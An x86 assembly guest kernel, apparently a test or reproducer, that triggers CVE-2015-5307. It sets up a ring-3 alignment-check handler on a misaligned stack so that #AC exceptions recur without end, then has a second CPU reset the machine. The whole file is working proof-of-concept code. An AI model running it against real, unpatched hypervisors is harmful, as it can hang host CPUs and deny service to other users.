/* SPDX-License-Identifier: Apache-2.0 */
/*
 * #AC upon #AC without end (CVE-2015-5307): in 32-bit mode the handler of ring 3 gets its frame on the
 * stack of ring 3, which is not aligned. Says "loop" and never another word; with a second CPU, that one
 * asks for a reset meanwhile. From PVH's entry, without paging. SDM volume 3, 6.15 (#AC), 8.4.4.
 */
#define KERNEL_CODE 0x08
#define KERNEL_DATA 0x10
#define USER_CODE   0x1b
#define USER_DATA   0x23
#define AC          17
#define CR0_AM      0x40000
#define FLAG_AC     0x40000
#define ICR         0xfee00300
#define TRAMPOLINE  0x8000
#define INIT        0x000c4500	/* to all others */
#define SIPI        0x000c4608	/* the same, at page 8 */
#define ROUNDS      10000000	/* for the first CPU to be in its loop */

	.section .note.pvh, "a", @note
	.balign 4
	.long 4, 4, 18	/* XEN_ELFNOTE_PHYS32_ENTRY */
	.asciz "Xen"
	.long pvh_entry

	.section .text.start, "ax", @progbits
	.code32
	.globl pvh_entry
pvh_entry:
	cli
	cld
	movl $stack_top, %esp
	lgdt gdt_pointer
	ljmp $KERNEL_CODE, $1f
1:	movl $KERNEL_DATA, %eax
	movl %eax, %ds
	movl %eax, %es
	movl %eax, %ss

	movl $handler, %eax
	movw %ax, gate
	shrl $16, %eax
	movw %ax, gate + 6
	lidt idt_pointer

	movl $word, %esi
	movl $word_end - word, %ecx
	movw $0x3f8, %dx
	rep outsb

	movl $trampoline, %esi
	movl $TRAMPOLINE, %edi
	movl $trampoline_end - trampoline, %ecx
	rep movsb
	movl $INIT, ICR
	movl $SIPI, ICR

	movl %cr0, %eax
	orl $CR0_AM, %eax
	movl %eax, %cr0
	pushl $USER_DATA
	pushl $stack_top - 2
	pushl $FLAG_AC | 2
	pushl $USER_CODE
	pushl $user
	iret

user:	pushl %eax
handler:
	jmp handler

	.code16
trampoline:
	movl $ROUNDS, %ecx
2:	decl %ecx
	jnz 2b
	movb $0xfe, %al
	outb %al, $0x64
3:	hlt
	jmp 3b
trampoline_end:

	.section .rodata
word:	.ascii "loop\n"
word_end:

	.section .data
	.balign 8
gdt:
	.quad 0
	.quad 0x00cf9b000000ffff
	.quad 0x00cf93000000ffff
	.quad 0x00cffb000000ffff
	.quad 0x00cff3000000ffff
gdt_pointer:
	.word . - gdt - 1
	.long gdt
	.balign 8
idt:	.skip AC * 8
gate:	.word 0, USER_CODE, 0x8e00, 0
idt_pointer:
	.word . - idt - 1
	.long idt

	.section .bss
	.balign 16
	.skip 4096
stack_top:

	.section .note.GNU-stack, "", @progbits
